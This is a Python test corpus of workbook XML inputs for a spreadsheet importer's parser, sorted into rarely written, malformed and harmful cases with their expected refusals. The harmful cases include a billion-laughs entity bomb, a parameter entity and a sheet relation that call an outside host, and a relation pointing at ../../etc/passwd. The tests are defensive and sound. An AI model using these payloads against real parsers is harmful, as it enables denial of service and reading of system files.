"""The XML inside a workbook: written in rare ways, wrongly, or to do harm."""

import os
from collections.abc import Callable

from tests.corpus.entries import Corpus, Entry, Refused, Taken, entry, refused, taken
from tests.corpus.making import (
    BOOK,
    RELATIONS,
    SHEET,
    STRINGS,
    STYLES,
    Parts,
    exact,
    inline,
    repacked,
    rows_xml,
    with_sheet,
)
from tests.support import workbook_files as files

from kemiskinan_desktop.workbooks import refusals

_NAME = "NAMA LENGKAP"
_TUKIMAN = taken(head={"name": "TUKIMAN"})
_DAMAGED, _SUSPICIOUS = refused(refusals.damaged()), refused(refusals.suspicious())
_LAUGHS = b'<!DOCTYPE a [<!ENTITY x "ha">' + b"".join(
    f'<!ENTITY x{n} "{f"&x{n - 1 or chr(32).strip()};" * 10}">'.encode() for n in range(1, 10)
) + b"]>"  # fmt: skip
_PARAMETER = b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://198.51.100.1/x.dtd"> %x;]>'


def _named(xml: str, wanted: Taken | Refused = _TUKIMAN, **package: object) -> Entry:
    return entry(lambda: exact({_NAME: xml}, **package), wanted)


def _sheet(change: Callable[[bytes], bytes], wanted: Taken | Refused = _TUKIMAN) -> Entry:
    return entry(lambda: with_sheet(change), wanted)


def _parts(change: Callable[[Parts], object], wanted: Taken | Refused = _TUKIMAN) -> Entry:
    return entry(lambda: repacked(change), wanted)


def _swapped(part: str, old: bytes, new: bytes, wanted: Taken | Refused = _TUKIMAN) -> Entry:
    def change(parts: Parts) -> None:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)

    return _parts(change, wanted)


def _prefixed(xml: bytes) -> bytes:
    plain = xml.replace(b"</", b"\x00").replace(b"<", b"<x:").replace(b"\x00", b"</x:")
    return plain.replace(b"xmlns=", b"xmlns:x=")


def _without_addresses(xml: bytes) -> bytes:
    rows = files.dinsos_rows(files.HEAD, files.WIFE)
    cells = (
        "".join(f'<c t="inlineStr"><is><t>{"" if value is None else value}</t></is></c>' for value in row)
        for row in rows
    )
    data = "".join(f"<row>{row}</row>" for row in cells)
    return f'<worksheet xmlns="{files.MAIN}"><sheetData>{data}</sheetData></worksheet>'.encode()


def _rows_backwards(xml: bytes) -> bytes:
    head, data = xml.split(b"<sheetData>")
    rows, tail = data.split(b"</sheetData>")
    every = [row + b"</row>" for row in rows.split(b"</row>")[:-1]]
    return head + b"<sheetData>" + b"".join(reversed(every)) + b"</sheetData>" + tail


def _before(xml: bytes, part: bytes = b"<worksheet") -> Callable[[bytes], bytes]:
    return lambda sheet: sheet.replace(part, xml + part, 1)


def _deep(depth: int) -> bytes:
    return b"<sheetData/>" + b"<a>" * depth + b"</a>" * depth


def _extra(name: str, content: bytes) -> Entry:
    return _parts(lambda parts: parts.update({name: content}))


def _many_sheets() -> bytes:
    def change(parts: Parts) -> None:
        extra = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(2, 900))
        parts[BOOK] = parts[BOOK].replace(b"</sheets>", extra + b"</sheets>")

    return repacked(change)


WRITTEN: Corpus = {
    "rich text": _named(inline("<r><rPr><b/></rPr><t>TUKI</t></r><r><t>MAN</t></r>")),
    "text with its sound": _named(inline("<t>TUKIMAN</t><rPh sb='0' eb='1'><t>x</t></rPh>")),
    "blanks kept": _named(inline('<t xml:space="preserve">  TUKIMAN </t>')),
    "shared text": _named('<c r="{at}" t="s"><v>0</v></c>', shared=["TUKIMAN"]),
    "cdata": _named(inline("<t><![CDATA[TUKIMAN]]></t>")),
    "comments between": _sheet(lambda xml: xml.replace(b"<sheetData>", b"<!-- x --><sheetData><!-- y -->")),
    "processing instructions": _sheet(_before(b'<?mso-application progid="Excel.Sheet"?>')),
    "a byte order mark": _sheet(lambda xml: b"\xef\xbb\xbf" + xml),
    "another prefix": _sheet(_prefixed),
    "unknown namespaces": _sheet(
        lambda xml: xml.replace(b"<sheetData>", b'<z:y xmlns:z="urn:z" z:a="1"/><sheetData>')
    ),
    "letters of western Europe": _sheet(_before(b'<?xml version="1.0" encoding="iso-8859-1"?>')),
    "no cell says where it stands": _sheet(_without_addresses),
    "rows from below": _sheet(_rows_backwards),
    "no styles": _parts(lambda parts: parts.pop(STYLES)),
    "no shared texts": _parts(lambda parts: parts.pop(STRINGS)),
    "targets from the root": _swapped(RELATIONS, b"worksheets/sheet1.xml", b"/xl/worksheets/sheet1.xml"),
    "a sheet named by three hundred letters": _swapped(BOOK, b'name="Data"', b'name="' + b"D" * 300 + b'"'),
    "a sheet named like a path": _swapped(BOOK, b'name="Data"', b'name="../../etc/[1]*?"'),
    "macros": _extra("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open"),
    "links to other workbooks": _extra("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
    "data connections": _extra("xl/connections.xml", b'<connections><dbPr command="DROP"/></connections>'),
    "an embedded program": _extra("xl/embeddings/oleObject1.bin", b"MZ\x90\x00"),
    "a picture of immense size": _extra(
        "xl/media/image1.png",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\x7f\xff\xff\xff\x7f" + os.urandom(500_000),
    ),
    "a thousand names of one sheet": entry(_many_sheets, _SUSPICIOUS),
}

WRONG: Corpus = {
    "strict": entry(lambda: files.package(rows_xml(), namespace=files.STRICT), refused(refusals.strict())),
    "xml cut in the middle": _sheet(lambda xml: xml[: len(xml) // 2], _DAMAGED),
    "xml and then rubbish": _sheet(lambda xml: xml + b"<a/>", _DAMAGED),
    "tags that cross": _sheet(lambda xml: xml.replace(b"</is></c>", b"</c></is>", 1), _DAMAGED),
    "bytes that are no letters": _sheet(lambda xml: xml.replace(b"TUKIMAN", b"TUKI\xff\xfe"), _DAMAGED),
    "a byte of zero": _sheet(lambda xml: xml.replace(b"TUKIMAN", b"TUKI\x00MAN"), _DAMAGED),
    "a reference to half a character": _sheet(lambda xml: xml.replace(b"TUKIMAN", b"&#xD83D;"), _DAMAGED),
    "an unknown entity": _sheet(lambda xml: xml.replace(b"TUKIMAN", b"&tukiman;"), _DAMAGED),
    "an unknown encoding": _sheet(_before(b'<?xml version="1.0" encoding="x-mac-jawa"?>'), _DAMAGED),
    "an empty sheet part": _parts(lambda parts: parts.update({SHEET: b""}), _DAMAGED),
    "no sheets named": _swapped(BOOK, b"<sheet ", b"<blat ", refused(refusals.no_sheets())),
    "shared text that is not there": _named('<c r="{at}" t="s"><v>7</v></c>', _DAMAGED, shared=["x"]),
    "shared text counted from the end": _named('<c r="{at}" t="s"><v>-1</v></c>', _DAMAGED, shared=["x"]),
    "shared text counted in words": _named('<c r="{at}" t="s"><v>satu</v></c>', _DAMAGED, shared=["x"]),
    "shared text counted with a stroke": _named('<c r="{at}" t="s"><v>0_0</v></c>', _DAMAGED, shared=["x"]),
    "an address in small letters": _sheet(lambda xml: xml.replace(b'r="I4"', b'r="i4"'), _DAMAGED),
    "an address without letters": _sheet(lambda xml: xml.replace(b'r="I4"', b'r="4"'), _DAMAGED),
    "a relation that is missing": _swapped(RELATIONS, b'Id="rId1"', b'Id="rId8"', _DAMAGED),
    "a sheet outside the file": _swapped(
        RELATIONS, b'Target="worksheets/sheet1.xml"',
        b'TargetMode="External" Target="http://198.51.100.1/sheet1.xml"', _DAMAGED,
    ),
    "a sheet above the root": _swapped(RELATIONS, b"worksheets/sheet1.xml", b"../../../etc/passwd", _DAMAGED),
    "no relations": _parts(lambda parts: parts.pop(RELATIONS), _DAMAGED),
    "no workbook": _parts(lambda parts: parts.pop(BOOK), _DAMAGED),
}  # fmt: skip

HARMFUL: Corpus = {
    "external entity": entry(files.external_entity, _SUSPICIOUS),
    "billion laughs": _sheet(_before(_LAUGHS), _SUSPICIOUS),
    "a parameter entity of the network": _sheet(_before(_PARAMETER), _SUSPICIOUS),
    "an entity across two pieces": _sheet(
        _before(b"<!--" + b"x" * ((1 << 18) - 9) + b"--><!DOCTYPE a [<!ENTITY b 'c'>]>"), _SUSPICIOUS
    ),
    "an entity in the shared texts": _swapped(STRINGS, b"<sst", b"<!DOCTYPE a><sst", _SUSPICIOUS),
    "an entity in the styles": _swapped(STYLES, b"<styleSheet", b"<!DOCTYPE a><styleSheet", _SUSPICIOUS),
    "an entity in the workbook": _swapped(BOOK, b"<workbook", b"<!DOCTYPE a><workbook", _SUSPICIOUS),
    "an entity in the relations": _swapped(RELATIONS, b"<Relat", b"<!DOCTYPE a><Relat", _SUSPICIOUS),
    "utf-16": _sheet(lambda xml: xml.decode().encode("utf-16"), _SUSPICIOUS),
    "utf-16 without a mark": _sheet(lambda xml: xml.decode().encode("utf-16-le"), _SUSPICIOUS),
    "fifty thousand levels": _sheet(
        lambda xml: xml.replace(b"</worksheet>", _deep(50_000) + b"</worksheet>")
    ),
    "an attribute of a million letters": _sheet(
        lambda xml: xml.replace(
            b"<sheetData>", b'<sheetPr a="' + os.urandom(500_000).hex().encode() + b'"/><sheetData>'
        )
    ),
    "ten thousand cells at one address": _sheet(
        lambda xml: xml.replace(
            b"</row></sheetData>", files.text_cell("I5", "SITI").encode() * 10_000 + b"</row></sheetData>"
        )
    ),
}
XML_PARTS: Corpus = {**WRITTEN, **WRONG, **HARMFUL}
